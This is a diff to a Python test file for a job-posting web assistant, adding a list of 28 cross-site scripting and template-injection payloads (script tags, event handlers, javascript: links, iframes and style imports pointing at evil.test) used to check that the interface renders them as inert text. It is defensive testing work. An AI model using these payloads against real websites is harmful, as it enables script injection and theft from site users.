@@ -48,11 +48,39 @@ from assistant.settings import ModelSettings
 from assistant.shortlist import Mark, Marked
 from assistant.web.backend import Value
 
-HOSTILE = (
-    '<script>window.broken = 1</script> <img src=http://evil.test/x.png onerror="window.broken = 2"> '
-    "![x](http://evil.test/x.png) [x](javascript:window.broken=3) **bold** `code` $$x$$ ${window.broken=4} "
-    "{{constructor}} </mark></div><iframe src=http://evil.test></iframe> \u202eabc\u202c"
+# Each would set window.broken or fetch from elsewhere, were it taken for anything but text.
+PAYLOADS = (
+    "<script>window.broken = 1</script>",
+    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
+    '<img src=http://evil.test/x.png onerror="window.broken = 2">',
+    "<svg/onload=window.broken=3>",
+    "<svg><animate onbegin=window.broken=4 attributeName=x dur=1s>",
+    "<iframe src=http://evil.test></iframe>",
+    '<iframe srcdoc="<script>parent.broken=5</script>">',
+    "<object data=//evil.test/x>",
+    "<embed src=//evil.test/x>",
+    "<video src=//evil.test/v onerror=window.broken=6>",
+    "<details open ontoggle=window.broken=7>",
+    "<input autofocus onfocus=window.broken=8>",
+    "<body onload=window.broken=9>",
+    "<base href=//evil.test/>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css';*{background:url(//evil.test/b.png)}</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<form action=//evil.test><button>x</button></form>",
+    "<a href=javascript:window.broken=10>x</a>",
+    "![x](http://evil.test/x.png)",
+    "[x](javascript:window.broken=11)",
+    "[x](data:text/html,<script>parent.broken=12</script>)",
+    "<http://evil.test/auto>",
+    "**bold** `code` $$x$$",
+    "${window.broken=13} {{constructor.constructor('window.broken=14')()}}",
+    "\" onmouseover=window.broken=15 x='",
+    "</mark></div></template></textarea></title></svg>",
+    "\u202eabc\u202c &lt;b&gt; &#60;script&#62;",
 )
+HOSTILE = " ".join(PAYLOADS)
+assert len(PAYLOADS) == 28
 
 
 def posting(name: str, title: str, organisation: str, location: str, body: str, language: str = "fr") -> Posting:
@@ -219,7 +247,11 @@ class FakeBackend:
             if data.startswith(b"broken"):
                 done = Added(name, failed=((name, "the file is damaged"),))
             else:
-                self.stored.append(posting(name, data.decode().splitlines()[0], "UNICEF", "Rabat", "I- Profil\n\nx\n"))
+                self.stored.append(
+                    posting(
+                        name, (data.decode().splitlines() or ["Untitled"])[0], "UNICEF", "Rabat", "I- Profil\n\nx\n"
+                    )
+                )
                 done = Added(name, added=(name,))
             addition = replace(addition, files=(*addition.files, done))
         yield addition
